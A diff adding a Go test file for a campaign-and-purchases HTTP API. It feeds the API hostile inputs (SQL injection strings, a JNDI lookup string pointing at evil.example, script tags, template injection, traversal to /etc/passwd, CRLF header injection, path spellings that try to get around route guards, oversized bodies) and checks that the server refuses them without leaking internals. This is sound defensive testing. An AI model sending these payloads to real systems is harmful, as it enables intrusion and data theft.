@@ -1,0 +1,204 @@
+package httpapi_test
+
+import (
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"net/url"
+	"regexp"
+	"strings"
+	"testing"
+
+	"github.com/google/uuid"
+
+	"triprize/internal/store/job"
+	"triprize/internal/testkit/fleet"
+)
+
+// insides is what only we should read: it has no place in an answer.
+var insides = regexp.MustCompile(`(?i)goroutine \d|\.go:\d|runtime error|panic|sqlstate|pgx|strconv\.|unmarshal|invalid character|invalid byte|` +
+	`unexpected e|parsing |cannot parse|multipart: |buffer size|contents:|net/http|fiber|dial tcp|syntax error|url escape|separator|hex number|crlf at`)
+
+// harmless wants an answer to give nothing away, and a refusal to be a whole problem.
+func harmless(t *testing.T, what string, a fleet.Answer) {
+	t.Helper()
+	switch {
+	case a.Err != nil:
+		t.Errorf("%s: %v", what, a.Err)
+	case a.Status >= 500:
+		t.Errorf("%s: %v %s", what, a, a.Body)
+	case a.Status >= 400 && len(a.Body) > 0:
+		fleet.CheckProblem(t, a)
+	}
+	if found := insides.Find(a.Body); found != nil {
+		t.Errorf("%s: the answer tells %q: %s", what, found, a.Body)
+	}
+}
+
+// hostile are texts that mean something to some language; to us they are text.
+var hostile = []string{
+	`'; DROP TABLE campaigns; --`, `' OR '1'='1`, `\'; TRUNCATE jobs; --`, `") OR ("1"="1`, `$1`, `%s%n%d%v`, `{{7*7}}`, `${jndi:ldap://evil.example/a}`,
+	`"},"role":"operator","a":{"b":"`, `<script>alert(1)</script>`, `../../etc/passwd`, `a/b?c=d&e#f`, "\u202e\u2028\ufeff", "🙂", `*`, `\`, `null`, `__proto__`,
+}
+
+func TestHostileTextIsTextWhereverItStands(t *testing.T) {
+	t.Parallel()
+	s := fleet.Start(t, fleet.Options{Schedulers: -1})
+	id := s.Campaign(20)
+	for _, text := range hostile {
+		body := fleet.CampaignBody(3)
+		body["name"] = text
+		a := s.Post("/v1/campaigns", body)
+		var made struct{ Name string }
+		if err := json.Unmarshal(a.Body, &made); err != nil || a.Status != http.StatusCreated || made.Name != text {
+			t.Errorf("a campaign %q: %v %s", text, a, a.Body)
+		}
+		a = s.Do(0, s.App, http.MethodPost, "/v1/campaigns/"+id.String()+"/purchases", map[string]string{"Idempotency-Key": uuid.NewString(), "Prefer": fleet.UntilFinal},
+			map[string]any{"user_id": text, "selection": map[string]int{"quantity": 1}, "payment": map[string]string{"method": "external", "reference": text}})
+		if a.State != job.Succeeded {
+			t.Errorf("a purchase of %q: %v %s", text, a, a.Body)
+		}
+		var list struct {
+			Purchases []struct {
+				UserID  string `json:"user_id"`
+				Payment struct{ Reference string }
+			}
+		}
+		a = s.Do(0, s.App, http.MethodGet, "/v1/users/"+url.PathEscape(text)+"/purchases", nil, nil)
+		if err := json.Unmarshal(a.Body, &list); err != nil || len(list.Purchases) != 1 || list.Purchases[0].UserID != text || list.Purchases[0].Payment.Reference != text {
+			t.Errorf("the purchases of %q: %v %s", text, a, a.Body)
+		}
+		quoted := url.QueryEscape(text)
+		for _, path := range []string{
+			"/v1/campaigns/" + url.PathEscape(text), "/v1/campaigns?state=" + quoted, "/v1/campaigns?cursor=" + quoted, "/v1/campaigns?limit=" + quoted,
+			"/v1/jobs/" + url.PathEscape(text), "/v1/purchases/" + url.PathEscape(text), "/problems/" + url.PathEscape(text),
+			"/v1/campaigns/" + id.String() + "/positions/" + url.PathEscape(text) + "/1",
+		} {
+			a := s.Do(0, s.Operator, http.MethodGet, path, nil, nil)
+			harmless(t, path, a)
+			if a.Status != http.StatusBadRequest && a.Status != http.StatusNotFound {
+				t.Errorf("%s: %v", path, a)
+			}
+		}
+		if strings.ContainsFunc(text, func(r rune) bool { return r > '~' }) {
+			continue
+		}
+		for _, name := range []string{"Prefer", "If-None-Match", "Last-Event-ID", "X-Request-ID", "X-Forwarded-For", "User-Agent", "Accept", "Cookie", "X-HTTP-Method-Override"} {
+			a := s.Do(0, s.App, http.MethodGet, "/v1/campaigns/"+id.String(), map[string]string{name: text}, nil)
+			harmless(t, name+": "+text, a)
+			if a.Status != http.StatusOK && (name != "If-None-Match" || a.Status != http.StatusNotModified) {
+				t.Errorf("%s: %s: %v", name, text, a)
+			}
+		}
+		a = s.Do(0, s.App, http.MethodPost, "/v1/campaigns/"+id.String()+"/publish", map[string]string{"Idempotency-Key": text}, nil)
+		if harmless(t, "the key "+text, a); a.Status != http.StatusForbidden {
+			t.Errorf("the key %s: %v", text, a)
+		}
+	}
+	if n := s.Purchases(id); n != len(hostile) {
+		t.Errorf("%d purchases of %d users", n, len(hostile))
+	}
+}
+
+func TestNoSpellingOfAPathLeadsAroundItsGuard(t *testing.T) {
+	t.Parallel()
+	s := fleet.Start(t, fleet.Options{Workers: -1, Schedulers: -1})
+	for _, path := range []string{
+		"/v1/../v1/campaigns", "/v1/%2e%2e/v1/campaigns", "/v1/./campaigns", "//v1/campaigns", "/v1//campaigns", "/v1/campaigns//", "/v1/campaigns/", "/v1/campaigns%00",
+		"/v1/campaigns%20", "/v1%2fcampaigns", "/v1%5ccampaigns", `/v1\campaigns`, "/v1/campaigns;a=b", "/v1/campaigns.json", "/V1/Campaigns", "/%76%31/campaigns", "/v1/campaigns%",
+		"/v1/campaigns/%c0%ae%c0%ae", "/v1/campaigns/%ff", "/v1/users/%ff/purchases", "/v1/users/%c0%ae/purchases", "/v1/users/%ed%a0%80/purchases", "/v1/users/%zz/purchases",
+		"/v1/users/%00/purchases", "/v1/users//purchases", "/v1/users/a%0d%0aSet-Cookie:%20a=b/purchases", "/v1/users/" + strings.Repeat("a", 129) + "/purchases",
+		"/v1/campaigns?state=", "/v1/campaigns?cursor=", "/v1/campaigns?limit=", "/v1/campaigns?limit=1&limit=2", "/v1/campaigns?limit=007", "/v1/campaigns?limit=%2b5",
+		"/v1/campaigns?limit=5%00", "/v1/campaigns?limit=9223372036854775808", "/v1/campaigns?state=active;limit=1", "/v1/campaigns?%zz", "/v1/campaigns?state=%ff",
+		"/v1/campaigns?state[]=active&state=active,pending", "/v1/campaigns?cursor=" + strings.Repeat("0", 2000), "/problems/../v1/campaigns", "/problems/%2e%2e%2fv1", "/ASYNQMON", "//asynqmon/api/queues",
+		"/%61synqmon", "/asynqmon%2fapi/queues", "/asynqmon;/api/queues", "/asynqmon/../v1/campaigns", "/asynqmon/..%2f..%2fetc/passwd", "/METRICS", "/healthz/..", "*", "campaigns", "/",
+		"http://other.example/asynqmon", "http://user:password@other.example/asynqmon/api/queues",
+	} {
+		for who, key := range map[string]string{"nobody": "", "an operator": "Authorization: Bearer " + s.Operator + "\r\n"} {
+			answers := wire(s, path, "GET "+path+" HTTP/1.1\r\nHost: api\r\n"+key+"\r\n")
+			if len(answers) != 1 || answers[0].Status < 400 {
+				t.Errorf("%s as %s: %v", path, who, answers)
+			}
+			for _, a := range answers {
+				harmless(t, path, a)
+			}
+		}
+	}
+	for _, path := range []string{"/docs/../v1/campaigns", "/docs/%2e%2e/%2e%2e/etc/passwd", "/docs/../asynqmon", "/docs/..%5c..%5cetc/passwd"} { // its files are served by a library
+		if answers := wire(s, path, "GET "+path+" HTTP/1.1\r\nHost: api\r\n\r\n"); len(answers) != 1 || answers[0].Status != http.StatusNotFound {
+			t.Errorf("%s: %v", path, answers)
+		}
+	}
+}
+
+func TestMethodsThatNobodyExpectsAreProblems(t *testing.T) {
+	t.Parallel()
+	s := fleet.Start(t, fleet.Options{Workers: -1, Schedulers: -1})
+	paths := []string{"/v1/campaigns", "/v1/campaigns/" + uuid.NewString(), "/v1/campaigns/" + uuid.NewString() + "/purchases", "/healthz", "/docs", "/problems/not-found", "/openapi.json", "/asynqmon", "/nothing", "*"}
+	for _, method := range []string{"OPTIONS", "TRACE", "CONNECT", "PUT", "DELETE", "HEAD", "PATCH", "POST", "PROPFIND", "get", "GETT", "G\x00T", "\x16\x03", "PRI", strings.Repeat("A", 1000)} {
+		for _, path := range paths {
+			answers := wire(s, method+" "+path, method+" "+path+" HTTP/1.1\r\nHost: api\r\nX-HTTP-Method-Override: GET\r\nContent-Length: 0\r\n\r\n")
+			if len(answers) != 1 {
+				t.Errorf("%s %s: %d answers", method, path, len(answers))
+				continue
+			}
+			a, public := answers[0], method == "HEAD" && (path == "/healthz" || path == "/docs" || path == "/problems/not-found" || path == "/openapi.json")
+			harmless(t, method+" "+path, a)
+			if (a.Status < 400) != public {
+				t.Errorf("%s %s: %v", method, path, a)
+			}
+			if a.Status == http.StatusMethodNotAllowed && a.Header.Get("Allow") == "" {
+				t.Errorf("%s %s: what is allowed stays unsaid: %v", method, path, a.Header)
+			}
+		}
+	}
+}
+
+func TestBodiesThatAreTooMuchAreRefusedWithinBoundedMemory(t *testing.T) {
+	t.Parallel()
+	s := fleet.Start(t, fleet.Options{Binaries: true, Workers: -1, Schedulers: -1})
+	const most = 1<<20 - 100 // just within the limit of a body
+	fill := func(before, part, after string) string {
+		return before + strings.Repeat(part, (most-len(before)-len(after))/len(part)) + after
+	}
+	var names strings.Builder
+	for i := range most / 12 {
+		fmt.Fprintf(&names, `"%06x":0,`, i)
+	}
+	bodies := map[string]string{
+		"deep arrays": fill("", "[", ""), "deep and closed": strings.Repeat("[", 9999) + strings.Repeat("]", 9999), "deep objects": strings.Repeat(`{"a":`, 9000) + "1" + strings.Repeat("}", 9000),
+		"too deep": strings.Repeat("[", 10001) + strings.Repeat("]", 10001), "deep inside": `{"user_id":` + strings.Repeat("[", 9000) + strings.Repeat("]", 9000) + `,"name":1}`,
+		"a long text": fill(`{"user_id":"`, "a", `"}`), "a long name": fill(`{"`, "a", `":1}`), "many names": "{" + strings.TrimSuffix(names.String(), ",") + "}",
+		"one name often": fill("{", `"name":1,`, `"name":1}`), "many elements": fill(`{"name":[`, "0,", "0]}"), "many layers": fill(`{"layers":[`, `{},`, `{}]}`),
+		"a long number": fill(`{"base_length":`, "9", "}"), "a long fraction": fill(`{"base_length":3.`, "0", "1}"), "a huge number": `{"base_length":1e999999999}`, "a tiny number": `{"base_length":1e-999999999}`,
+		"many huge numbers": fill(`{"layers":[`, `{"layer":1e308},`, "0]}"), "many escapes": fill(`{"name":"`, `\u0061`, `"}`), "blanks": fill("", " ", "{}"), "only blanks": fill("", "\n", ""),
+	}
+	s.Do(0, s.Operator, http.MethodGet, "/v1/campaigns", nil, nil)
+	before := peak(t, s.APIs[0].PID())
+	for name, body := range bodies {
+		for _, path := range []string{"/v1/campaigns", "/v1/campaigns/" + uuid.NewString() + "/purchases"} {
+			a := raw(s, http.MethodPost, path, body, "", "")
+			if harmless(t, name, a); a.Status != http.StatusBadRequest || len(a.Body) > 16<<10 {
+				t.Errorf("%s to %s: %v, %d bytes", name, path, a, len(a.Body))
+			}
+		}
+	}
+	if grown := peak(t, s.APIs[0].PID()) - before; grown > 1<<30 { // many small objects become some 170 bytes for each byte
+		t.Errorf("bodies of 1 MB, one after the other, grew the process by %d MB", grown>>20)
+	}
+	long := strings.Repeat("a", 1<<20)
+	for name, head := range map[string]string{
+		"a long path": "GET /" + long + " HTTP/1.1\r\nHost: api\r\n", "a long query": "GET /v1/campaigns?cursor=" + long + " HTTP/1.1\r\nHost: api\r\n", "a long method": long + " / HTTP/1.1\r\nHost: api\r\n",
+		"a long header": "GET /healthz HTTP/1.1\r\nHost: api\r\nX-Long: " + long + "\r\n", "a long name": "GET /healthz HTTP/1.1\r\nHost: api\r\n" + long + ": a\r\n",
+		"many headers": "GET /healthz HTTP/1.1\r\nHost: api\r\n" + strings.Repeat("X-Many: a\r\n", 20_000), "a long key": "GET /v1/campaigns HTTP/1.1\r\nHost: api\r\nAuthorization: Bearer " + long + "\r\n",
+	} {
+		for _, a := range wire(s, name, head+"\r\n") { // the connection may be closed before all of it is sent, and the answer lost
+			if harmless(t, name, a); a.Status != http.StatusRequestHeaderFieldsTooLarge && a.Status != http.StatusBadRequest {
+				t.Errorf("%s: %v", name, a)
+			}
+		}
+	}
+	if a := s.Do(0, s.Operator, http.MethodGet, "/v1/campaigns", nil, nil); a.Status != http.StatusOK {
+		t.Errorf("afterwards: %v", a)
+	}
+}
